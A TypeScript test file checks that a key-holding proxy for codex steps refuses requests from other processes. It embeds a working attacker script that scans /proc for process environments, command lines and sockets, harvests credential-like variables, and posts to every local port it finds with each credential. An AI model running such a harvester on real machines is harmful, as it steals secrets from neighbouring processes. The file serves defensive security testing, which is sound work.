/**
 * The proxy that holds the key for codex serves the run's codex processes only. A cmd step runs
 * while a codex step is waiting for the model; it searches /proc as an attacker would for the
 * proxy (command lines, environments, open sockets, listening ports) and posts to every port it
 * finds, with every credential it finds. The real codex binary, the built CLI and the loopback fake
 * server; the fake server stands for OpenAI.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempOnDisk, orchestrate, expectExit } from './helpers/cli.js';
import { CODEX_BIN } from './helpers/codex-home.js';
import { functionCallOutputs } from './helpers/fake-openai.js';
import { fakeOpenAI, keyFiles, project, scratch } from './helpers/project.js';

// the real codex runs here: its sandbox mounts a /dev of its own, which would hide a checkout on /dev/shm
tempOnDisk();

const KEY = 'sk-test-proxy-0123456789abcdef';
const MARK = 'ATTACK from a cmd step';

/**
 * The attacker: finds the orchestrator's pid in its own process tag, then everything under it,
 * and collects ports (their listening sockets, `127.0.0.1:<port>` in their command lines and
 * environments, `--server-info` files and `--port`) and credentials
 * (values of variables named like keys and tokens, in every environment it can read). It stays
 * within the orchestrator's tree so it does not post to other servers on a shared machine, and
 * leaves out the remote ends of their connections: that is the upstream itself (OpenAI, which
 * anyone may call without the key; here the fake server).
 * Writes what it tried to attack-<flow>.json.
 */
const ATTACKER = String.raw`
import { readFileSync, readdirSync, readlinkSync, writeFileSync } from 'node:fs';
const read = (path) => { try { return readFileSync(path, 'utf8'); } catch { return undefined; } };
const root = Number((process.env.ORCHESTRATOR_PROCESS_TAG ?? '').split('.')[0]);
const ppid = (pid) => { const stat = read('/proc/' + pid + '/stat'); return stat ? Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) : 0; };
const all = readdirSync('/proc').filter((n) => /^\d+$/.test(n)).map(Number);
const parent = new Map(all.map((pid) => [pid, ppid(pid)]));
const under = (pid) => { for (let p = pid, i = 0; p > 1 && i < 100; p = parent.get(p) ?? 0, i++) if (p === root) return true; return false; };
const targets = all.filter((pid) => pid !== process.pid && under(pid));
const ports = new Set(), credentials = new Set(), sockets = new Set();
const portsIn = (text) => { for (const m of text.matchAll(/(?:127\.0\.0\.1|localhost):(\d+)/g)) ports.add(Number(m[1])); };
for (const pid of targets) {
  const argv = (read('/proc/' + pid + '/cmdline') ?? '').split('\0');
  argv.forEach((word, i) => {
    portsIn(word);
    if (word === '--server-info' || word === '--port') {
      const info = word === '--port' ? argv[i + 1] : read(argv[i + 1]) ?? '';
      for (const m of String(info).matchAll(/\d{2,5}/g)) ports.add(Number(m[0]));
    }
  });
  for (const entry of (read('/proc/' + pid + '/environ') ?? '').split('\0')) {
    portsIn(entry);
    const eq = entry.indexOf('=');
    if (eq > 0 && /KEY|TOKEN|SECRET|PASS|AUTH|BEARER/i.test(entry.slice(0, eq)) && entry.length > eq + 1) credentials.add(entry.slice(eq + 1));
  }
  let fds = [];
  try { fds = readdirSync('/proc/' + pid + '/fd'); } catch {}
  for (const fd of fds) { try { const m = /^socket:\[(\d+)\]$/.exec(readlinkSync('/proc/' + pid + '/fd/' + fd)); if (m) sockets.add(m[1]); } catch {} }
}
for (const line of (read('/proc/net/tcp') ?? '').split('\n').slice(1)) {
  const f = line.trim().split(/\s+/);
  if (f.length < 10 || !sockets.has(f[9])) continue;
  if (f[3] === '0A') ports.add(parseInt(f[1].split(':')[1], 16));
}
const tries = [];
for (const port of ports) {
  for (const credential of [undefined, ...credentials]) {
    const headers = { 'content-type': 'application/json' };
    if (credential !== undefined) headers.authorization = 'Bearer ' + credential;
    try {
      const res = await fetch('http://127.0.0.1:' + port + '/v1/responses', {
        method: 'POST', headers, signal: AbortSignal.timeout(5000),
        body: JSON.stringify({ model: 'gpt-attack', input: ${JSON.stringify(MARK)}, stream: false }),
      });
      tries.push({ port, credential: credential !== undefined, status: res.status, body: (await res.text()).slice(0, 200) });
    } catch (error) {
      tries.push({ port, credential: credential !== undefined, error: String(error).slice(0, 200) });
    }
  }
}
writeFileSync('attack-' + process.env.ORCHESTRATOR_FLOW_ID + '.json', JSON.stringify({ targets, ports: [...ports], credentials: credentials.size, tries }, null, 2));
console.log('attacked ' + ports.size + ' ports');
`;

const CODEX_HOME_TOML = '[analytics]\nenabled = false\n\n[features]\nplugins = false\n';

interface Attack {
  ports: number[];
  tries: { port: number; credential: boolean; status?: number; body?: string }[];
}

/** Waits (bounded) for a file a step writes. */
async function fileAppears(path: string, ms: number): Promise<void> {
  const deadline = Date.now() + ms;
  while (!existsSync(path) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
}

test('a cmd step that searches /proc for the codex proxy and posts to every port it finds never reaches the model with the key; codex still does', async () => {
  let dir = '';
  const server = await fakeOpenAI(async (req) => {
    // the second flow's codex waits for the model while the first flow's cmd step attacks
    if (req.prompt.startsWith('hold')) await fileAppears(join(dir, 'attack-flow_0001.json'), 30_000);
    return { text: `codex answered: ${req.prompt.trim()}` };
  });
  const home = scratch({ 'config.toml': CODEX_HOME_TOML });
  dir = project(
    [
      { type: 'codex', prompt: '{{{DOC}}}', sandbox: 'read-only' },
      { type: 'attack', cmd: `"${process.execPath}" attack.mjs` },
    ],
    { 'attack.mjs': ATTACKER, ...keyFiles('docs.list', { 'a.txt': 'quick', 'b.txt': 'hold' }) },
  );
  const o = await orchestrate(
    dir,
    ['--codex-path', CODEX_BIN, '--base-url', server.url, '--key', 'DOC:docs.list', '--parallel', '2'],
    { CODEX_HOME: home, HOME: home, OPENAI_API_KEY: KEY },
    { timeoutMs: 90_000 },
  );
  const attack = JSON.parse(readFileSync(join(dir, 'attack-flow_0001.json'), 'utf8')) as Attack;
  // the attack ran while the other flow's codex was waiting for the model, and found codex's server
  const codexRequests = server.requests.filter((r) => r.path === '/v1/responses' && !JSON.stringify(r.body).includes(MARK));
  expect(codexRequests.map((r) => r.prompt.trim()).sort()).toEqual(['hold', 'quick']);
  expect(attack.tries.length).toBeGreaterThan(0);

  // not one request of the attacker's reached the model with the run's key: every port it found
  // refused it, the one codex was given among them. (The upstream's own port is public: it is on
  // the orchestrator's command line as --base-url, as OpenAI's address is; what reached it straight
  // carried no key, as anyone's request to OpenAI may.)
  const attacks = server.requests.filter((r) => JSON.stringify(r.body).includes(MARK));
  expect(attacks.filter((r) => r.headers.authorization === `Bearer ${KEY}`)).toEqual([]);
  expect(attack.tries.filter((t) => t.status === 200 && t.port !== server.port)).toEqual([]);
  expect(attack.tries).toContainEqual(
    expect.objectContaining({ status: 403, body: expect.stringContaining("serves only the codex processes of this run's codex steps") }),
  );

  // codex's own requests went through, with the key, before, while and after the attack
  expectExit(o, 0);
  expect(codexRequests.every((r) => r.headers.authorization === `Bearer ${KEY}`)).toBe(true);
  expect(o.results.flows.map((f: { output: string }) => f.output)).toEqual([
    `attacked ${attack.ports.length} ports\n`,
    expect.stringMatching(/^attacked \d+ ports\n$/),
  ]);
}, 120_000);

test("a command codex runs (no sandbox) that attacks the proxy the same way is refused too; codex's turn goes on", async () => {
  const server = await fakeOpenAI((req) =>
    functionCallOutputs(req).length === 0 ? { toolCommand: `"${process.execPath}" attack.mjs` } : { text: 'done' },
  );
  const home = scratch({ 'config.toml': CODEX_HOME_TOML });
  const dir = project([{ type: 'codex', prompt: 'Run the attack.', sandbox: 'danger-full-access' }], { 'attack.mjs': ATTACKER });
  const o = await orchestrate(
    dir,
    ['--codex-path', CODEX_BIN, '--base-url', server.url],
    { CODEX_HOME: home, HOME: home, OPENAI_API_KEY: KEY },
    { timeoutMs: 90_000 },
  );
  expectExit(o, 0);
  const attack = JSON.parse(readFileSync(join(dir, 'attack-flow_0001.json'), 'utf8')) as Attack;
  const attacks = server.requests.filter((r) => JSON.stringify(r.body).includes(MARK));
  expect(attacks.filter((r) => r.headers.authorization === `Bearer ${KEY}`)).toEqual([]);
  expect(attack.tries.filter((t) => t.status === 200 && t.port !== server.port)).toEqual([]);
  // the command ran while codex, its parent, was connected to the proxy: refused all the same
  expect(attack.tries).toContainEqual(
    expect.objectContaining({ status: 403, body: expect.stringContaining("serves only the codex processes of this run's codex steps") }),
  );
  // codex's own two requests (the command, then its output) went through with the key
  const codexRequests = server.requests.filter((r) => r.path === '/v1/responses' && !JSON.stringify(r.body).includes(MARK));
  expect(codexRequests).toHaveLength(2);
  expect(codexRequests.every((r) => r.headers.authorization === `Bearer ${KEY}`)).toBe(true);
  expect(o.results.flows[0].output).toBe('done');
}, 120_000);
